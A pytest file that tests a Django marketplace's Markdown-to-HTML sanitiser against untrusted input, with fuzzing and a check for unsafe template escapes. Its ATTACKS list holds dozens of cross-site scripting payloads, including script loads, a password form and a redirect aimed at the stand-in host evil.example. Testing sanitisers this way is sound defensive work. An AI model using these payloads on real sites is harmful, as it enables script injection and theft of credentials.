"""Untrusted text: what comes out is only what is listed, whatever goes in."""

import ast
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from marketplace import markup
from marketplace.markup import LINK_REL, MAX_CHARACTERS, TAGS, first_wall, last_wall, plain, render

ROOT = Path(__file__).resolve().parent.parent


class Walls(HTMLParser):
    """Fails on any tag, attribute or address that is not listed, as a browser would read the page."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.addresses = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            if (tag, name) == ("ol", "start"):
                assert re.fullmatch(r"[0-9]{1,9}", value)
                continue
            assert tag == "a", (tag, name)
            assert name in ("href", "title", "rel"), name
            if name == "rel":
                assert value == LINK_REL
            if name == "href":
                scheme = re.match(r"[\s\x00-\x20]*([^/?#]*?)\s*:", value)
                assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), value
                self.addresses.append(value)

    def handle_comment(self, data):
        raise AssertionError("a comment came out")

    handle_decl = handle_pi = unknown_decl = handle_comment


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action='http://evil.example'><input name=password><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<!-- <img src=x --><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:1/alert(1))",
    "[x](JavaScript&#58;1/alert(1))",
    "[x](java&Tab;script&colon;8080/alert(1))",
    "[x](localhost:8000)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](https://ok.example 'x\" onmouseover=\"alert(1)')",
    '[x](https://ok.example" onclick="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: https://ok.example "a\' onclick=\'alert(1)"\n\n[x]',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/p.gif)',
    "![<script>alert(1)</script>](x)",
    "<javascript:alert(1)>",
    "<https://ok.example/\"onclick=alert(1)>",
    "https://ok.example/\"onmouseover=alert(1)//<script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onload=alert(1)\n<b>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|:-:|\n| [x](javascript:1) | <b>x</b> |",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "# titre {: onclick=alert(1) }",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "*<b onclick=alert(1)>*",
    "<a@b.ca\"onclick=alert(1)>",
    "<" * 50 + "script>alert(1)",
    "\u2028<script\u00a0>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_meet_the_walls(attack):
    Walls(render(attack))
    Walls(render(f"avant {attack} après\n\n- {attack}\n"))


@settings(deadline=None)  # a busy machine is not a failure
@given(st.text(alphabet=st.sampled_from("<>/'\"=()[]!#*`_|&;: \n\t\\ajsconlickrtp1\x02\x03"), max_size=120))
def test_any_text_meets_the_walls(text):
    Walls(render(text))
    plain(text)


@settings(deadline=None)  # a busy machine is not a failure
@given(st.lists(st.sampled_from(ATTACKS), min_size=2, max_size=4), st.sampled_from(["", " ", "\n", "\n\n"]))
def test_attacks_together_meet_the_walls(attacks, between):
    Walls(render(between.join(attacks)))


# --- Two walls, one text ---------------------------------------------------------------------------------------------
HONEST = [
    "Bonjour **vous** et *toi*.",
    "# Titre",
    "- un\n- deux",
    "1. a\n2. b",
    "> cité",
    "---",
    "`a < b`",
    "une\u00a0espace",
    "```python\nif a < b:\n    pass\n```",
    "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "[guide](https://ok.example/a?b=1&c=2 'Le guide')",
    "[ici](/aide)",
    "<https://ok.example/?é=ü>",
    "<quelqu.un@ok.example>",
    "![Schéma](https://ok.example/s.png)",
    "ᐃᓄᒃᑎᑐᑦ 🎉 é",
    "    code\n\n\tcode",
    "[ancre](#bas) [requête](?a:b)",
    "&amp;amp; &nbsp; &#8239; &lt;b&gt;",
    "a  \nb",
]
# What Markdown never gives the walls today: they are two because that may change.
RAW = [
    "<p>un<p>deux",
    "<b>gras</b>",
    "<table><tr><td>1<table><tr><td>2",
    "<table>perdu<tr><td>3</table>",
    "<ul><li>a<ul><li>b",
    "<a href='https://ok.example'>a<a href='/b'>b</a></a>",
    "<a rel='evil' href='/c' title='<b>'>c</a>",
    "<em><p>x</em>y</p>",
    "<svg><a href='javascript:1'><p>x</svg>",
    "<math><mi><table><p>y",
    "<select><p>z<option>",
    "<template><p>t</template>",
    "<xmp><p></xmp>",
    "<plaintext>",
    "<noscript><p>n</noscript>",
    "<pre>\n\nx</pre>",
    "<code>\x00\x0b\x0c</code>",
    "</p></br><br/><hr/>",
    "<title><p>k</title>",
    "<a href=' https://ok.example '>e</a>",
    "<a href='https&colon;//ok.example'>f</a>",
    "<!--><p>m-->",
    "<td>seul",
    "<h7>h",
    "<p id=x onclick=y style=z class=w>q",
    "<isindex><keygen><image src=x>",
    "<form><p>r</form>",
    "<font color=red>s",
]


class Shown(HTMLParser):
    """The text and the addresses that a reader gets, in order."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.text, self.links = "", []
        # Each reading drops the first line break of a <pre>, and the last wall reads once more.
        self.feed(re.sub("<pre>\n+", "<pre>", html))
        self.close()

    def handle_data(self, data):
        self.text += data

    def handle_starttag(self, tag, attrs):
        self.links += [value for name, value in attrs if name == "href"]


class Walks:
    """How many texts went through both walls, and what the last one took from the first."""

    def __init__(self):
        self.texts, self.links, self.unreadable = set(), 0, set()

    def through(self, html):
        first = first_wall(html)
        both = last_wall(first)
        Walls(both)
        alone, left = Shown(first), Shown(both)
        assert left.text == alone.text, html
        kept = iter(left.links)
        following = next(kept, None)
        for link in alone.links:
            if link == following:
                following = next(kept, None)
                self.links += 1
            else:
                self.unreadable.add(link)
        assert following is None, html
        self.texts.add(html)


def test_the_last_wall_changes_nothing_that_the_first_one_lets_through():
    """Bleach alone, then both walls: the same text, the same links, but for addresses that no browser can read."""
    walks = Walks()
    pieces = [*ATTACKS, *HONEST, *RAW]
    for one in pieces:
        walks.through(one)
        walks.through(markup._converter().convert(one))
        for other in [*HONEST, *RAW]:
            walks.through(f"{one}{other}")
            walks.through(markup._converter().convert(f"{one}\n\n{other}"))
    signs = st.text(alphabet=st.sampled_from("<>/'\"=()[]!#*`_|&;: \n\t\\ajsconlickrtp1\u00a0\x0b"), max_size=60)

    @settings(max_examples=500)
    @given(
        st.lists(st.one_of(st.sampled_from(pieces), signs), min_size=2, max_size=5), st.sampled_from(["", " ", "\n\n"])
    )
    def mixed(parts, between):
        walks.through(between.join(parts))
        walks.through(markup._converter().convert(between.join(parts)))

    mixed()
    assert len(walks.texts) >= 2_000 and walks.links >= 1_000
    assert all(unreadable(link) for link in walks.unreadable), walks.unreadable


def unreadable(link):
    """WHATWG URL, « host parsing » and « port state »: a browser follows no link to such an authority."""
    authority = re.match(r"https?:[/\\]*([^/\\?#]*)", link.strip(), re.IGNORECASE)
    barred = r"[\s<>^|%\[\]:;'\"`()!*=&]"
    return authority is not None and (not authority[1] or re.search(barred, authority[1]) is not None)


@pytest.mark.parametrize("html", [*ATTACKS, *RAW])
def test_each_wall_stands_alone(html):
    """Were one of them to let everything through, the other would do."""
    Walls(first_wall(html))
    Walls(last_wall(html))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        (None, ""),
        ("Bonjour **vous** et *toi*.", "<p>Bonjour <strong>vous</strong> et <em>toi</em>.</p>"),
        ("# A\n## B\n### C\n#### D", "<h3>A</h3>\n<h3>B</h3>\n<h3>C</h3>\n<h4>D</h4>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("> cité\n\n---", "<blockquote>\n<p>cité</p>\n</blockquote>\n<hr>"),
        ("une ligne\nla même", "<p>une ligne\nla même</p>"),
        ("une ligne  \nune autre", "<p>une ligne<br>\nune autre</p>"),
        ("List<String> & <b>", "<p>List&lt;String&gt; &amp; &lt;b&gt;</p>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```python\nif a < b:\n    pass\n```", "<pre><code>if a &lt; b:\n    pass\n</code></pre>"),
        (
            "[guide](https://ok.example/a?b=1&c=2 'Le guide')",
            '<p><a href="https://ok.example/a?b=1&amp;c=2" rel="nofollow noopener" title="Le guide">guide</a></p>',
        ),
        ("[ici](/aide)", '<p><a href="/aide" rel="nofollow noopener">ici</a></p>'),
        (
            "Voir https://ok.example/a_b_c, puis (https://ok.example/x_(y)).",
            '<p>Voir <a href="https://ok.example/a_b_c" rel="nofollow noopener">https://ok.example/a_b_c</a>, puis '
            '(<a href="https://ok.example/x_(y)" rel="nofollow noopener">https://ok.example/x_(y)</a>).</p>',
        ),
        ("ASP.NET et node.js ne sont pas des liens", "<p>ASP.NET et node.js ne sont pas des liens</p>"),
        (
            "![Schéma](https://ok.example/s.png)",
            '<p><a href="https://ok.example/s.png" rel="nofollow noopener">Schéma</a></p>',
        ),
        (
            "| a | b |\n|:--|--:|\n| 1 | 2 |",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n"
            "</tr>\n</tbody>\n</table>",
        ),
    ],
)
def test_markdown(text, html):
    assert render(text) == html
    assert isinstance(render(text), SafeString)


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "![" * 10_000, "[a](" * 10_000, "``\\" * 10_000, "|\n" * 20_000, "x" * (MAX_CHARACTERS + 1)],
)
def test_a_text_made_to_exhaust_the_converter_is_shown_as_typed(text):
    html = render(text)
    assert html.startswith("<pre>")
    Walls(html)


def test_nested_quotes_do_not_break_the_page():
    Walls(render(">" * 3_000))


def test_a_long_honest_text_is_still_converted():
    links = "\n".join(f"- [Lien {number}](https://ok.example/{number})" for number in range(200))
    words = "\n\n".join(["Un paragraphe **utile** sur les [données](https://ok.example) ouvertes. " * 10] * 30)
    for text in (links, words):
        assert not render(text).startswith("<pre>")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (None, ""),
        ("# Titre\n\nDu **texte** & un [lien](https://ok.example).", "Titre\nDu texte & un lien."),
        ("- un\n- deux", "- un\n- deux"),
        ("- un\n\n- deux", "- un\n- deux"),
        ("List<String> &eacute; `a<b`", "List<String> é a<b"),
        ("une ligne\nla même", "une ligne\nla même"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ],
)
def test_plain(text, expected):
    assert plain(text) == expected
    assert not isinstance(plain(text), SafeString)


def test_template_filters():
    context = Context({"text": "**Oui** <b>"})
    source = "{% load marketplace %}{{ text|markdown }}|{{ text|plain }}"
    assert Template(source).render(context) == "<p><strong>Oui</strong> &lt;b&gt;</p>|Oui &lt;b&gt;"


def test_this_is_the_only_door():
    """No other module names mark_safe, and no template uses |safe or autoescape off."""
    skipped = {".venv", ".git", "node_modules", "tests", "var", "staticfiles"}
    found = []
    for path in ROOT.rglob("*.py"):
        if skipped.isdisjoint(path.relative_to(ROOT).parts) and "mark_safe" in path.read_text("utf-8"):
            names = {
                getattr(node, "id", getattr(node, "attr", None)) for node in ast.walk(ast.parse(path.read_bytes()))
            }
            if "mark_safe" in names:
                found.append(path.relative_to(ROOT).as_posix())
    assert found == ["marketplace/markup.py"]
    for path in (ROOT / "templates").rglob("*.*"):
        if path.suffix in (".html", ".txt", ".xml"):
            text = path.read_text("utf-8").replace(" ", "")
            assert "|safe" not in text, path
            assert path.suffix == ".txt" or "autoescapeoff" not in text, path
